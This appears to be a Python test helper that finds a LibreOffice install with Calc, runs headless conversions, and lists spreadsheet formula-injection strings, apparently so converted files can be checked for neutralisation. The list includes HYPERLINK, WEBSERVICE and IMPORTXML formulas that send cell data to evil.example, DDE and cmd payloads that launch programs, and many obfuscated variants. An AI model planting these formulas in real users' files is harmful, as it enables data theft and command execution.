"""LibreOffice, and texts that a spreadsheet would run."""

import shutil
import subprocess
from pathlib import Path


def with_calc():
    """Find a LibreOffice that has Calc; one of Writer alone is as good as none."""
    program = shutil.which("soffice") or shutil.which("libreoffice")
    if not program:
        return None
    folder = Path(program).resolve().parent.parent
    modules = folder.glob("*/*sclo.*")  # libsclo.so, libsclo.dylib, sclo.dll
    return program if shutil.which("localc") or any(modules) else None


LIBREOFFICE = with_calc()
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    " =1+1",
    "\uff1d1+1",
    "=cmd|'/c calc'!A1",
    '","=1+1',
    "x;=1+1",
    "x\t=1+1",
    "x\n=1+1;",
    "=1",
    "==1+1",
    "=-1",
    "=+1",
    "=@SUM(1,1)",
    '="a"&"b"',
    "=A1",
    "=SUM(A1:A9)",
    "={1,2;3,4}",
    "=uploads!A1",
    '=WEBSERVICE("http://evil.example/?x="&A1)',
    '=IMPORTXML("http://evil.example/","//a")',
    '=DDE("cmd";"/c calc";"A1")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
    '+HYPERLINK("http://evil.example/","open")',
    '-HYPERLINK("http://evil.example/","open")',
    '@HYPERLINK("http://evil.example/","open")',
    "-2+3+cmd|'/c calc'!D2",
    "@cmd|'/c calc'!A1",
    "+-1+1",
    "--1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1,1)",
    "'=1+1",
)


def convert(paths, folder, kind, *options):
    """Open files and save them as another kind; give what LibreOffice said of it."""
    command = [LIBREOFFICE, "--headless", f"-env:UserInstallation=file://{folder}/profile"]
    command += [*options, "--convert-to", kind, "--outdir", str(folder), *map(str, paths)]
    ended = subprocess.run(command, check=True, capture_output=True, text=True, timeout=600)
    return ended.stderr
